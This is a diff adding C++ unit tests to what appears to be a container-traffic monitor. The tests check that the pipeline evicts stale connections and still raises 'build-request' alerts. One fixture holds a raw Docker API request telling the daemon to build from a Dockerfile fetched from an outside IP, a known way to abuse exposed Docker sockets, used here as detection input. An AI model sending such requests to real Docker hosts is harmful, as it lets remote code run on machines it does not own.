@@ -1,4 +1,7 @@
+#include <algorithm>
 #include <catch2/catch_test_macros.hpp>
+#include <string>
+#include <utility>
 #include <vector>
 
 #include "app/pipeline.h"
@@ -8,6 +11,36 @@ using namespace kilnwatch;
 namespace {
 
 constexpr domain::TimeNs kMs = 1'000'000;
+
+domain::ConnOpened opening(domain::ConnId conn, domain::TimeNs time) {
+  domain::ConnOpened opened;
+  opened.time = time;
+  opened.conn = conn;
+  opened.engine = domain::EngineKind::kDocker;
+  return opened;
+}
+
+domain::ConnData asked(domain::ConnId conn, domain::TimeNs time, std::uint64_t pos,
+                       std::string bytes) {
+  domain::ConnData data;
+  data.time = time;
+  data.conn = conn;
+  data.pos = pos;
+  data.at_head = true;
+  data.span = static_cast<std::uint32_t>(bytes.size());
+  data.bytes = std::move(bytes);
+  return data;
+}
+
+const std::string kBuildRequest =
+    "POST /v1.41/build?remote=http://198.51.100.66/Dockerfile HTTP/1.1\r\nHost: d\r\n"
+    "Content-Length: 0\r\n\r\n";
+
+std::size_t build_requests(const std::vector<v1::Alert>& alerts) {
+  return static_cast<std::size_t>(
+      std::count_if(alerts.begin(), alerts.end(),
+                    [](const auto& alert) { return alert.rule() == "build-request"; }));
+}
 
 domain::ProcessForked fork_at(domain::TimeNs time) { return {time, 1, 2, time}; }
 
@@ -82,4 +115,34 @@ TEST_CASE("An event that comes after its time has passed is counted") {
   CHECK(pipeline.stats().late == 1);
   pipeline.push(fork_at(1015 * kMs));
   CHECK(pipeline.stats().late == 1);
+}
+
+TEST_CASE("Conversations whose end was lost make room for the newest") {
+  detect::MemorySeenStore seen;
+  std::vector<v1::Alert> alerts;
+  app::Pipeline pipeline({"host", "boot", "", "", 0}, seen, nullptr,
+                         [&](const v1::Alert& alert) { alerts.push_back(alert); });
+  domain::TimeNs now = 100'000 * kMs;
+  for (domain::ConnId conn = 1; conn <= app::kMaxConversations; ++conn)
+    pipeline.push(opening(conn, now += kMs));
+  // The oldest one still talks.
+  pipeline.push(asked(1, now += kMs, 0, kBuildRequest.substr(0, 40)));
+  const auto newest = app::kMaxConversations + 1;
+  pipeline.push(opening(newest, now += kMs));
+  pipeline.push(asked(newest, now += kMs, 0, kBuildRequest));
+  pipeline.push(asked(1, now += kMs, 40, kBuildRequest.substr(40)));
+  pipeline.finish();
+  CHECK(build_requests(alerts) == 2);
+  CHECK(pipeline.stats().losses["conversations"] == 1);
+}
+
+TEST_CASE("A connection's number that comes again takes no other's place") {
+  detect::MemorySeenStore seen;
+  app::Pipeline pipeline({"host", "boot", "", "", 0}, seen, nullptr, [](const v1::Alert&) {});
+  domain::TimeNs now = 100'000 * kMs;
+  for (domain::ConnId conn = 1; conn <= app::kMaxConversations; ++conn)
+    pipeline.push(opening(conn, now += kMs));
+  pipeline.push(opening(7, now += kMs));
+  pipeline.finish();
+  CHECK(pipeline.stats().losses.empty());
 }
